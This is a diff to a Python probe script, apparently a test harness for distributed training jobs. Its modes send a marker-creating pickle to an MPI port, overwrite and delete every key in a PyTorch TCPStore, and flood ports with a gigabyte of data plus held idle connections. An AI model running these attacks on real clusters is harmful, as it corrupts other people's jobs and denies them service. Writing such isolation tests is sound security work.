@@ -2,7 +2,12 @@
 
 `read DIR`: try to list and read the job directory. `mpi PORT MARKER`: Connect to the controller's
 MPI port (its name leaked) and send a pickle that would create MARKER if anyone unpickled it.
-`store HOST PORT`: write the store keys a job used to have (predictable) and random ones.
+`store HOST PORT`: speak torch's store protocol to the job's store (list, overwrite, delete, add).
+`flood SPEC`: everything at once on every port of SPEC (JSON: ports as [host, port], per_port): a
+torch TCPStore client on each (list, overwrite, delete and add to every key it can see), a
+gigabyte of values pushed at those of `push` (the store's), `per_port` idle connections held on
+each and one that sends
+a few bytes; prints what it got, then holds the connections until its stdin closes.
 Prints one JSON line of what happened."""
 from __future__ import annotations
 
@@ -49,29 +54,95 @@ def mpi(port: str, marker: str) -> dict:
     return {"connected": True, "sent": 3, "answer_bytes": answer}
 
 
-def store(host: str, port: int) -> dict:
-    import secrets
+def as_store(host: str, port: int) -> str:
+    """Speak torch's store protocol to PORT: list every key, overwrite, delete, add to each."""
     from datetime import timedelta
 
     import torch.distributed as dist
-    s = dist.TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=10))
-    written = 0
-    for gen in range(3):
-        for step in range(300):
-            s.set(f"vote/g{gen}/s{step}/d", json.dumps({"c": 0, "why": "stranger"}))
-            s.add(f"vote/g{gen}/s{step}/n", 100)
-            written += 2
-        s.set(f"vote/g{gen}/pending", json.dumps({"ckpt": "stranger", "exit": True}))
-    for plan in range(5):
-        s.set(f"plan{plan}/switch_step", "3")
-    for _ in range(100):
-        s.set(secrets.token_hex(8), secrets.token_bytes(16))
-    return {"written": written + 108}
+    try:
+        s = dist.TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=3))
+        keys = s.list_keys()
+        for k in keys:
+            s.set(k, b"\0" * 40 + b"stranger")
+            s.add(k + "/n", 1000)
+            s.delete_key(k)
+        return f"spoke the store protocol: {len(keys)} keys"
+    except Exception as e:
+        return f"refused: {type(e).__name__}: {str(e)[:80]}"
+
+
+def push(host: str, port: int, total: int = 1 << 30, limit_s: float = 10.0) -> dict:
+    """Send up to `total` bytes of values, reconnecting whenever the port closes on us."""
+    import socket
+    import time
+    chunk, sent, conns, end = os.urandom(1 << 20), 0, 0, time.monotonic() + limit_s
+    while sent < total and time.monotonic() < end:
+        try:
+            with socket.create_connection((host, port), timeout=1) as s:
+                conns += 1
+                while sent < total and time.monotonic() < end:
+                    sent += s.send(chunk)
+        except OSError:
+            if conns > 10_000:
+                break
+    return {"bytes_taken": sent, "connections": conns}
+
+
+def flood(spec: dict) -> dict:
+    import socket
+    import threading
+    import time
+    ports, n = [tuple(p) for p in spec["ports"]], spec["per_port"]
+    got: dict = {}
+
+    def one(host: str, port: int) -> None:
+        got[port] = {"store": as_store(host, port),
+                     "push": push(host, port) if port in spec.get("push", ()) else None}
+    ths = [threading.Thread(target=one, args=p) for p in ports]
+    for t in ths:
+        t.start()
+    for t in ths:
+        t.join(60)
+    held = []
+    for host, port in ports:
+        for i in range(n + 1):
+            s = socket.socket()
+            s.setblocking(False)
+            s.connect_ex((host, port))
+            held.append((port, i == n, s))
+    time.sleep(2)
+    for _, port in ports:
+        got[port]["held"] = 0
+    for port, chatty, s in held:
+        if _still_open(s):
+            got[port]["held"] += 1
+            if chatty:
+                try:
+                    s.send(b"hello")
+                except OSError:
+                    pass
+    print(json.dumps({str(k): v for k, v in got.items()}), flush=True)
+    sys.stdin.read()                 # hold everything until told to let go
+    return {"let_go": True}
+
+
+def _still_open(s) -> bool:
+    """Connected, and not closed by the other side (what it sent is read and dropped)."""
+    try:
+        s.getpeername()       # a connect still waiting (its SYN dropped) has no peer
+        while True:
+            if not s.recv(1 << 16):
+                return False
+    except BlockingIOError:
+        return True
+    except OSError:           # never connected (a dropped SYN), or reset
+        return False
 
 
 if __name__ == "__main__":
     mode, *args = sys.argv[1:]
     out = {"read": lambda: read(Path(args[0])), "mpi": lambda: mpi(args[0], args[1]),
-           "store": lambda: store(args[0], int(args[1]))}[mode]()
+           "store": lambda: {"store": as_store(args[0], int(args[1]))},
+           "flood": lambda: flood(json.loads(args[0]))}[mode]()
     print(json.dumps(out), flush=True)
     os._exit(0)
